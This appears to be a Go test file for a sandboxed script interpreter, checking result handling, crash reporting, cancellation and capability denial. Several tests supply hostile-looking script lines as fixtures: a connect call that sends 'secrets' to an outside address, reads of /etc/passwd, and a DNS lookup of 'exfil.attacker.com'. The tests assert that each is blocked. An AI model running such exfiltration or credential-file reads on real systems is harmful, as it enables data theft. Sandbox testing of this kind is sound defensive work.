package interp

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"
)

func TestRunReturnsResult(t *testing.T) {
	out, err := New().Run(context.Background(), "ok.star", `result = "OK|Test|fine"`)
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	if out != "OK|Test|fine" {
		t.Fatalf("result = %q", out)
	}
}

func TestRunNonStringResult(t *testing.T) {
	out, err := New().Run(context.Background(), "int.star", `result = 40 + 2`)
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	if out != "42" {
		t.Fatalf("result = %q, want 42", out)
	}
}

func TestIndexErrorBecomesCrash(t *testing.T) {
	src := `
def f():
    xs = [0] * 4
    xs[10] = 1
    return "unreachable"
result = f()
`
	out, err := New().Run(context.Background(), "crash.star", src)
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	o := ParseOutcome(out)
	if o.Status != StatusCrashed || o.Kind != "IndexError" {
		t.Fatalf("outcome = %+v", o)
	}
	if !strings.HasSuffix(o.Elapsed, "ms") {
		t.Fatalf("elapsed = %q", o.Elapsed)
	}
}

func TestConnectIsBlocked(t *testing.T) {
	out, err := New().Run(context.Background(), "net.star", `
connect("203.0.113.66:443", "secrets")
result = "VULNERABLE"
`)
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	o := ParseOutcome(out)
	if o.Status != StatusBlocked || o.Kind != "socket.error" || o.Detail != "Network access denied" {
		t.Fatalf("outcome = %+v", o)
	}
}

func TestReadFileIsBlocked(t *testing.T) {
	out, err := New().Run(context.Background(), "fs.star", `
data = read_file("/etc/passwd")
result = "VULNERABLE"
`)
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	if o := ParseOutcome(out); o.Kind != "PermissionError" {
		t.Fatalf("outcome = %+v", o)
	}
}

func TestCapabilityBuiltinsDeny(t *testing.T) {
	src := `
a = alloc(1024 * 1024 * 1024)
b = alloc(16)
r = resolve("exfil.attacker.com")
e = exists("/etc/passwd")
result = "%s,%s,%s,%s" % (a, b, r, e)
`
	out, err := New(WithMaxAlloc(1024)).Run(context.Background(), "caps.star", src)
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	if out != "None,True,None,False" {
		t.Fatalf("result = %q", out)
	}
}

func TestPrintIsCaptured(t *testing.T) {
	r := New()
	if _, err := r.Run(context.Background(), "print.star", `
print("[ATTACK] hello")
result = "OK|x|y"
`); err != nil {
		t.Fatalf("run: %v", err)
	}
	out := r.Output()
	if len(out) != 1 || out[0] != "[ATTACK] hello" {
		t.Fatalf("output = %v", out)
	}
	if len(r.Output()) != 0 {
		t.Fatalf("output not drained")
	}
}

func TestSyntaxErrorIsReturned(t *testing.T) {
	if _, err := New().Run(context.Background(), "bad.star", "def (:"); err == nil {
		t.Fatalf("expected syntax error")
	}
}

func TestMissingResult(t *testing.T) {
	if _, err := New().Run(context.Background(), "none.star", "x = 1"); err == nil {
		t.Fatalf("expected error for missing result")
	}
}

func TestCancelledRunReturnsError(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Millisecond)
	defer cancel()
	src := `
def spin():
    n = 0
    while True:
        n += 1
result = spin()
`
	_, err := New().Run(ctx, "spin.star", src)
	if err == nil {
		t.Fatalf("expected cancellation error")
	}
	if errors.Is(err, context.DeadlineExceeded) {
		return
	}
	if !strings.Contains(err.Error(), "cancel") {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestFormatMS(t *testing.T) {
	if got := FormatMS(1500 * time.Microsecond); got != "1.5ms" {
		t.Fatalf("FormatMS = %q", got)
	}
}
